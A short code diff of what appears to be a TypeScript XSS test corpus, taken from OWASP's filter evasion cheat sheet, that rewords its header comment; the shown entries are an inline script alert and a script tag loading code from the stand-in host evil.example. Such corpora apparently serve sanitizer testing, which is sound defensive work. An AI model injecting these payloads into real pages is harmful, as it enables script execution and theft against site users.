@@ -1,4 +1,4 @@
-/** Ways in which HTML has been made to run something (after OWASP's filter evasion sheet and mXSS reports). */
+/** Known XSS attacks in HTML (from OWASP's filter evasion cheat sheet and mXSS reports). */
 export const XSS_CORPUS = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
